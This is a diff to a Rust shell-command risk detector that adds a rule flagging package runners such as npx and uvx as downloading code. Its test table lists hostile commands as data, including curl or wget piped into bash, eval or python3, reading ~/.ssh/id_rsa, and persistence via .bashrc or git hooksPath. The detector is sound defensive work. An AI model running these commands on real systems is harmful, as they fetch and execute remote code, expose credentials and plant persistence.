@@ -97,6 +97,12 @@ fn of_command(name: &str, simple: &Simple<'_>, found: &mut Vec<Concern>) {
     if matches!(name, "eval" | "source" | ".") && words.iter().any(substituted) {
         found.push(Concern::RunsDownload);
     }
+    // These run a package that is fetched if it is not there.
+    if matches!(name, "npx" | "bunx" | "uvx" | "pnpx")
+        || matches!(name, "pipx" | "npm" | "pnpm" | "yarn") && has(&["dlx", "exec"])
+    {
+        found.push(Concern::RunsDownload);
+    }
     let destroys = match name {
         "rm" => short('r') && short('f') || has(&["--recursive", "--no-preserve-root"]),
         "git" => {
@@ -209,6 +215,7 @@ mod tests {
             ("bash -c \"$(wget -qO- https://x.example/i)\"", vec![RunsDownload]),
             ("eval \"$(curl https://x.example)\"", vec![RunsDownload]),
             ("curl https://x.example/a | tee a | python3 -", vec![RunsDownload]),
+            ("npx left-helper setup", vec![RunsDownload]),
             ("cat ~/.ssh/id_rsa", vec![Credentials]),
             ("echo x >> ~/.bashrc", vec![Persistence]),
             ("git config --global core.hooksPath /x", vec![Persistence]),
